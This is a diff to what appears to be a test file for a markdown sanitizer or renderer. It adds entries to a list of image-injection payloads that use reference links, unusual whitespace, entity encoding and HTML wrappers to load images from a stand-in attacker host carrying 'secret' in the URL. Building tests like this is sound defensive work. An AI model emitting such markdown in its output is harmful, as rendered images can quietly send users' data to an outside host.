@@ -70,6 +70,23 @@ ATTACKS = [
     f"[1]: <img src={EVIL}>",
     "![x](//evil.example/?q=secret)",
     "![x](https:&#x2f;/evil.example/)",
+    # a label, a destination, and a title as renderers read them
+    *(f"![1, 2]\n\n{label}: {EVIL}" for label in ("[1,\t2]", "[1,\n2]", "[\n1,\n2\n]", "[1,\f2]", "[\u00a01, 2]")),
+    f"![1]\n\n> [\n> 1\n> ]: {EVIL}",
+    f"![1]\n\n[{' ' * 50}1]: {EVIL}",
+    f"![1]\n\n{'- ' * 9}{' ' * 4}{'>' * 9}{' ' * 3}[1]: {EVIL}",
+    *(f'![x]({KNOWN}{space}"secret")' for space in "\u00a0\u3000\x85\x1c"),
+    f"![x]({KNOWN}>>>)",
+    f"![1]\n\n[1]: {KNOWN}>>>",
+    f"![1]\n\n[1]: <{KNOWN} secret>",
+    f"![1]\n\n[1]: {KNOWN}\u00a0secret",
+    f"![1]\n\n[1]: {KNOWN}{'x' * 2_100}",
+    f"![x]({KNOWN}&#63;q=secret)",
+    # code in HTML is none
+    *(
+        f"{tag}`<img src={EVIL}>`"
+        for tag in ("<p>\n", "<p> ", "<b>\n", "</b> \n", "- <li> ", "<table><tr><td>", "> <hr/>")
+    ),
 ]
 
 
